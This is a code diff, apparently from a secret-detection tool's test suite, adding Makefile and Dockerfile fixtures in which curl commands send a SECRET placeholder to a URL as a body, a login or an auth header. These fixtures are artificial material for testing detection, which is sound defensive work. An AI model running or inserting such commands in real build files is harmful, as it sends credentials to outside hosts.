@@ -532,6 +532,16 @@ IN_HOSTS |= {
     for at, used in enumerate(USED_IN_FILES[kind])
 }
 
+IN_HOSTS |= {
+    "a body in a variable.mk": f"BODY := {in_place('SECRET')}\nstart:\n\tcurl {URL} -d '$(BODY)'\n",
+    "a body that is defined.mk": f"define BODY\n{in_place('SECRET')}\nendef\nstart:\n\tcurl {URL} -d '$(BODY)'\n",
+    "a program with a login.mk": f"CURL := curl -u id:SECRET\nstart:\n\t$(CURL) {URL} -d '{BODY}'\n",
+    "a header in a variable.mk": f"AUTH = -H 'Authorization: Basic SECRET'\nstart:\n\tcurl $(AUTH) {URL} -d '{BODY}'\n",
+    "a list.Dockerfile": f'CMD ["curl", "-u", "id:SECRET", "-d", {json.dumps(BODY)}, "{URL}"]\n',
+    "a body in a list.Dockerfile": f'CMD ["curl", "-d", {json.dumps(in_place("SECRET"))}, "{URL}"]\n',
+    "a shell in a list.Dockerfile": f'CMD ["sh", "-c", {json.dumps(sent("SECRET"))}]\n',
+    "a file.Dockerfile": f"COPY <<E /b.json\n{in_place('SECRET')}\nE\nRUN curl -d @/b.json {URL}\n",
+}
 
 WRITTEN = tuple(form for form in FORMATS if form != "full")
 QUICK = ("concise", "json", "markdown", "github")
